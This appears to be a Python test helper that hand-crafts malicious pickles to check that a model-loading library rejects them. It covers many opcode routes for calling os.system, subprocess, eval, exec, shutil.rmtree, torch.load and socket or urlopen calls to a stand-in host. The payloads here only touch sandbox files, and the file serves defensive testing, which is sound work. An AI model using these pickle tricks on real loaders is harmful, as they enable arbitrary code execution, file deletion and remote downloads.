"""Pickles that name what they must not, written by hand or by Python's own pickler."""

import pickle
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from tests.helpers.hostile import Room

GLOBAL, STACK_GLOBAL, REDUCE, STOP, MARK = b"c", b"\x93", b"R", b".", b"("
Payload = Callable[[Room], bytes]


class Called:
    """An object whose pickle calls a function."""

    def __init__(self, module: str, name: str, *arguments: Any) -> None:
        self.module, self.name, self.arguments = module, name, arguments


def text(value: str) -> bytes:
    """Opcodes that push a text."""
    encoded = value.encode()
    return b"X" + len(encoded).to_bytes(4, "little") + encoded


def value_of(argument: Any) -> bytes:
    """Opcodes that push a plain value."""
    if isinstance(argument, Called):
        return by_global(argument)
    if isinstance(argument, str):
        return text(argument)
    if isinstance(argument, tuple):
        return MARK + b"".join(map(value_of, argument)) + b"t"
    return pickle.dumps(argument, 2)[2:-1]


def named(call: Called) -> bytes:
    return GLOBAL + f"{call.module}\n{call.name}\n".encode()


def by_global(call: Called) -> bytes:
    """GLOBAL, arguments, REDUCE."""
    return named(call) + value_of(call.arguments) + REDUCE


def by_stack_global(call: Called) -> bytes:
    return text(call.module) + text(call.name) + STACK_GLOBAL + value_of(call.arguments) + REDUCE


def by_inst(call: Called) -> bytes:
    arguments = b"".join(map(value_of, call.arguments))
    return MARK + arguments + b"i" + f"{call.module}\n{call.name}\n".encode()


def by_obj(call: Called) -> bytes:
    return MARK + named(call) + b"".join(map(value_of, call.arguments)) + b"o"


def by_newobj(call: Called) -> bytes:
    return named(call) + value_of(call.arguments) + b"\x81"


def by_newobj_ex(call: Called) -> bytes:
    return named(call) + value_of(call.arguments) + b"}" + b"\x92"


def by_build(call: Called) -> bytes:
    """A function as the state of an object, whose `__setstate__` is another."""
    return b"ccollections\nOrderedDict\n)R" + b"}" + text("__setstate__") + named(call) + b"sb"


def by_extension(_call: Called) -> bytes:
    return b"\x82\x01" + b")R"


def by_memo(call: Called) -> bytes:
    """A name that goes through the memo before it is called."""
    return named(call) + b"q\x07" + b"0" + b"h\x07" + value_of(call.arguments) + REDUCE


def by_item(call: Called) -> bytes:
    """As the value of an entry of a state dict."""
    return b"}" + text("conv_first.weight") + by_global(call) + b"s"


def by_key(call: Called) -> bytes:
    return b"}" + by_global(call) + text("value") + b"s"


def by_persistent_id(call: Called) -> bytes:
    return by_global(call) + b"Q"


WAYS = {
    "GLOBAL": by_global,
    "STACK_GLOBAL": by_stack_global,
    "INST": by_inst,
    "OBJ": by_obj,
    "NEWOBJ": by_newobj,
    "NEWOBJ_EX": by_newobj_ex,
    "BUILD": by_build,
    "EXT1": by_extension,
    "the memo": by_memo,
    "a value": by_item,
    "a key": by_key,
    "a persistent id": by_persistent_id,
}
"""Ways to have a name looked up or called."""


def calls(room: Room) -> dict[str, Called]:
    """Calls that would leave a trace, by what they do."""
    target, precious = str(room.victim / "pwn"), str(room.victim / "precious.txt")
    touch = f"touch {target}"
    code = f"open({target!r}, 'w')"
    return {
        "a shell": Called("os", "system", touch),
        "a shell by its real name": Called("posix", "system", touch),
        "a process": Called("subprocess", "Popen", ("touch", target)),
        "a call": Called("subprocess", "call", ("touch", target)),
        "eval": Called("builtins", "eval", code),
        "eval of Python 2": Called("__builtin__", "eval", code),
        "exec": Called("builtins", "exec", code),
        "open": Called("builtins", "open", target, "w"),
        "io.open": Called("io", "open", target, "w"),
        "getattr": Called("builtins", "getattr", Called("builtins", "__import__", "os"), "system"),
        "import": Called("importlib", "import_module", "antigravity"),
        "compile": Called("builtins", "compile", code, "f", "exec"),
        "run a file": Called("runpy", "run_path", target),
        "remove": Called("os", "remove", precious),
        "rename": Called("os", "rename", precious, target),
        "link": Called("os", "link", precious, target),
        "remove a folder": Called("shutil", "rmtree", str(room.victim)),
        "copy": Called("shutil", "copyfile", precious, target),
        "write a path": Called("pathlib", "Path.write_text", precious, "x"),
        "touch a path": Called("pathlib", "Path.touch", target),
        "a library": Called("ctypes", "CDLL", precious),
        "torch.load": Called("torch", "load", precious),
        "torch.save": Called("torch", "save", "x", target),
        "torch.hub": Called("torch.hub", "load", "a/b", "c"),
        "torch.from_file": Called("torch", "from_file", precious),
        "a typed storage of a file": Called("torch", "UntypedStorage.from_file", precious, True, 8),
        "torch.storage of bytes": Called("torch.storage", "_load_from_bytes", b"x"),
        "torch.jit.load": Called("torch.jit", "load", precious),
        "a compiler": Called("torch.utils.cpp_extension", "load", "x", target),
        "a library of torch": Called("torch", "ops.load_library", precious),
        "numpy.load": Called("numpy", "load", precious),
        "numpy.fromfile": Called("numpy", "fromfile", precious),
        "numpy.memmap": Called("numpy", "memmap", target, "uint8", "w+", 0, 4),
        "a module of numpy that runs": Called(
            "numpy.testing._private.utils", "runstring", code, {}
        ),
        "a browser": Called("webbrowser", "open", "http://127.0.0.1:9/pwn"),
        "a connection": Called("socket", "create_connection", ("192.0.2.1", 9), 0.01),
        "a download": Called("urllib.request", "urlopen", "http://192.0.2.1/pwn"),
        "a pickle in it": Called("pickle", "loads", b"cos\nsystem\n(S'true'\ntR."),
        "a module of ours": Called("unifmir.atomic", "write_text", target, "x"),
        "a timer": Called("time", "sleep", 100),
        "an end": Called("os", "_exit", 0),
        "a signal": Called("os", "abort"),
        "the environment": Called("os", "putenv", "PATH", str(room.victim)),
        "a folder": Called("os", "chdir", str(room.victim)),
        "memory": Called("builtins", "bytearray", 2**40),
    }


def payloads() -> Iterator[tuple[str, Payload]]:
    """Every call by one way, and one call by every way."""
    names = list(calls(Room(Path("nowhere"))))
    for number, name in enumerate(names):
        way = list(WAYS)[number % len(WAYS)]
        yield f"{name}, by {way}", _payload(name, way)
    for way in WAYS:
        yield f"a shell, by {way} alone", _payload("a shell", way)


def _payload(name: str, way: str) -> Payload:
    return lambda room: b"\x80\x02" + WAYS[way](calls(room)[name]) + STOP
